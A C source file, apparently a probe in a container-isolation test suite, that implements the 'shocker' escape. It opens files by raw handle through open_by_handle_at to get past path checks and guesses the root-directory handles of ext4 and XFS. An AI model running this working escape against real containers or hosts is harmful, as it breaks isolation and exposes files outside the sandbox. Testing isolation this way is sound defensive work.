// Opens files by handle, past all path checks: a handle says file system and inode alone (Docker's "shocker").
//   attack_handle DIRECTORY HANDLE-OF-THE-SECRET-IN-HEX|- [FILE]
// With FILE: prints its handle, to be given to another run.
#include "attack.h"

struct handle {
  unsigned bytes;
  int type;
  unsigned char data[128];
};

static void try_handle(const char *name, int mount, struct handle *handle) {
  const int fd = (int)syscall(SYS_open_by_handle_at, mount, handle, O_RDONLY | O_CLOEXEC);
  if (fd < 0) { refused(name); return; }
  char content[64] = "";
  if (read(fd, content, sizeof content - 1) < 0) content[0] = '\0';
  reached(name, "%s", content[0] ? content : "open");
}

int main(int argc, char **argv) {
  if (argc < 3) broken("usage");
  int mount_id;
  if (argc > 3) {
    struct handle handle = {.bytes = sizeof handle.data};
    if (syscall(SYS_name_to_handle_at, AT_FDCWD, argv[3], &handle, &mount_id, 0) < 0) broken("name_to_handle_at");
    printf("handle %d ", handle.type);
    for (unsigned i = 0; i < handle.bytes; ++i) printf("%02x", handle.data[i]);
    putchar('\n');
    return 0;
  }
  const int mount = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (mount < 0) broken("directory");
  struct handle secret = {.bytes = 0};
  char *hex = NULL;
  secret.type = (int)strtol(argv[2], &hex, 10);
  if (*hex == ':') ++hex;
  for (; hex[0] && hex[1]; hex += 2) {
    const char digits[] = {hex[0], hex[1], '\0'};
    secret.data[secret.bytes++] = (unsigned char)strtoul(digits, NULL, 16);
  }
  try_handle("secret", mount, &secret);
  // The root directory of ext4 and XFS is a well-known inode: 2 and 128.
  for (unsigned inode = 2; inode <= 128; inode += 126) {
    struct handle root = {.bytes = 8, .type = 1};
    memcpy(root.data, &inode, sizeof inode);
    try_handle(inode == 2 ? "root-2" : "root-128", mount, &root);
  }
  return 0;
}
